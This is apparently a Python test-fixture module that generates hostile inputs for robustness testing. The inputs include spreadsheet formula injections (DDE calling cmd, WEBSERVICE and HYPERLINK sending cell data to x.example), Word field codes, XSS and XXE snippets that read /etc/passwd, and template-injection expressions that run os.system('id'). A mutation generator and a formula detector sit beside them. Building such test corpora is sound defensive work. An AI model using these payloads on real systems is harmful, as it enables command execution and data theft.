"""Hostile texts by kind: formulas, codes of fields and markup, templates, and how they are changed.

RELIABILITY.md 6, rows 1, 11 and 15. Learned from OWASP's CSV injection, CWE-1236 and the families
of server-side template injection; each is written anew here.
"""

from __future__ import annotations

import random
import unicodedata

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(A1)", "=cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1,"open")', '=IMPORTXML("http://x.example/","//a")',
    '=WEBSERVICE("http://x.example/"&A1)', '=DDE("cmd";"/C calc";"x")', "  =1+1", "'=1+1",
    '"=1+1"', "\ufeff=1+1", "\u200b\u202e=1+1", '=1+1",=1+1,"',
)  # fmt: skip

_BEFORE = (
    "", "", " ", "\t", "\r\n", "\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2060", "\u202e",
    "'", '"', "\x00", "\x1b", "\x08", "``", "%", ";", ",", "\u2028",
)  # fmt: skip
_AFTER = ("", " ", "\t", "\n", '"', "'", ";=1+1", ",=1+1", "\x00", "|", "\u202c", "_x003D_")


def mutations(seed: int, count: int) -> list[str]:
    """Formulas with other beginnings, ends and letters."""
    chance = random.Random(seed)
    made = []
    for _ in range(count):
        body = chance.choice(FORMULAS)
        at = chance.randrange(len(body) + 1)
        body = body[:at] + chance.choice(("", "", " ", "\u200b", "\\", "_x0041_")) + body[at:]
        body = chance.choice((str, str.upper, str.lower))(body)
        before = "".join(chance.choices(_BEFORE, k=2))
        made.append(before + body + chance.choice(_AFTER))
    return made


def looks_like_formula(text: str) -> bool:
    """Whether a person who typed it would get something else than the text."""
    if text[:1] in ("\t", "\r", "\n", "'"):
        return True
    shown = [c for c in text if unicodedata.category(c) not in ("Zs", "Zl", "Zp", "Cf")]
    return bool(shown) and shown[0] in "=+-@＝＋－＠\t\r\n'"


FIELDS = (
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }", "{ DDE excel x y }",
    "{ INCLUDETEXT \"file:///etc/passwd\" }", "{ INCLUDEPICTURE \"http://x.example/a.png\" \\d }",
    "{ HYPERLINK \"javascript:alert(1)\" }", "{ MERGEFIELD Name }", "{ MACROBUTTON x y }",
    '<w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText>', '<w:fldSimple w:instr="DDE x y"/>',
    '<w:fldChar w:fldCharType="begin"/>', "</w:t></w:r></w:p><w:p/>", "</a:t></a:r></a:p><a:p/>",
    "</v></c><c><f>1+1</f></c>", "</t></si><si><t>", "</c:v></c:pt>", '"/><x a="', "' onload='x",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<![CDATA[x]]>", "]]>",
    "<!-- x -->", "--><x/><!--", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;", "&amp; &lt; &#x41; &#65; &nbsp;", "&#0;", "_x0041_ _x005F_x0041_ _x000D_ _x_ _x00e9_",
    "&P &D &F &A &Z &[File] &\"Arial\"&24x", "{\\rtf1\\ansi x\\par}", "\\u0041\\x41\\n",
    "%00%0d%0a",
    "PAGE \\* MERGEFORMAT", "TOC \\o \"1-3\"", "#REF! #N/A #NAME?", "[Sheet1]'!A1",
    "Table1[[#All]]",
    "xml:space=\"preserve\"", "r:id=\"rId1\"", "\ufdd61\ufdd7", "\ue000 \U0010ffff",
)  # fmt: skip

_WRAPPERS = (
    "{{{{ {0} }}}}", "{{% if {0} %}}x{{% endif %}}", "{{% set x = {0} %}}{{{{ x }}}}",
    "{{% for x in {0} %}}{{{{ x }}}}{{% endfor %}}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>",
    "[[ {0} ]]", "{{{{{{ {0} }}}}}}", "{{# {0} #}}{{{{ {0}|safe }}}}",
)  # fmt: skip
_EXPRESSIONS = (
    "7*7", "config", "self.__init__.__globals__", "''.__class__.__mro__[1].__subclasses__()",
    "cycler.__init__.__globals__.os.popen('id').read()", "''|attr('__class__')",
    "lipsum.__globals__['os'].system('id')", "open('/etc/passwd').read()",
    "__import__('os').system('id')", "joiner.__init__.__globals__", "account.__class__",
    "namespace.__init__.__globals__['os']", "range(10**9)", "'%c'*10**9", "request['application']",
)  # fmt: skip
TEMPLATES = tuple(wrapper.format(inner) for wrapper in _WRAPPERS for inner in _EXPRESSIONS)
"""Payloads of template injection: ten ways of being called by fifteen expressions."""
